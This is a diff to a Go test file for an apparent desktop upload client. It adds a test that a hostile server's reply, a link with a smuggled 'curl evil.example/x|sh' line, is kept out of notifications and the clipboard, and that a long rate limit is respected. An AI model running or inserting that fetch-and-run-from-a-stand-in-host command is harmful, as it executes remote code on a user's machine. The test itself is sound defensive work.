@@ -6,6 +6,7 @@ import (
 	"fmt"
 	"hash/crc32"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"syscall"
@@ -164,5 +165,37 @@ func TestSessionBusRestart(t *testing.T) {
 	}
 	if strings.Contains(p.out.String(), "panic") {
 		t.Errorf("a panic:\n%s", p.out.String())
+	}
+}
+
+// A hostile server's answers reach neither the clipboard nor a
+// notification, and a long rate limit is waited out, not hammered.
+func TestHostileServerAnswers(t *testing.T) {
+	d := newDesk(t, deskOpts{noTray: true})
+	d.start()
+	d.srv.Script(cxtest.Link("https://x.example/a.png\ncurl evil.example/x|sh #"))
+	from := len(d.notes.All())
+	d.key("ctrl+shift+1")
+	n := d.notes.Wait(t, from, 30*time.Second, titled("Upload failed"))
+	if strings.Contains(n.Body, "evil") || !strings.Contains(n.Body, "link in the answer is unusable") {
+		t.Errorf("notification %q", n.Body)
+	}
+	probe := exec.Command("xclip", "-o", "-selection", "clipboard")
+	probe.Env = d.u.environ()
+	if clip, _ := probe.Output(); strings.Contains(string(clip), "evil") { // nothing there is right too
+		t.Errorf("clipboard %q", clip)
+	}
+
+	d.srv.Script(cxtest.TooMany429(3600))
+	before := len(d.srv.Requests())
+	from = len(d.notes.All())
+	d.key("ctrl+shift+1")
+	n = d.notes.Wait(t, from, 30*time.Second, titled("Upload failed"))
+	if !strings.Contains(n.Body, "it can take the next one in 1 hour") || !strings.Contains(n.Body, "tries again in 1 hour") {
+		t.Errorf("notification %q", n.Body)
+	}
+	time.Sleep(time.Second)
+	if got := len(d.srv.Requests()) - before; got != 1 {
+		t.Errorf("%d requests against a one-hour Retry-After", got)
 	}
 }
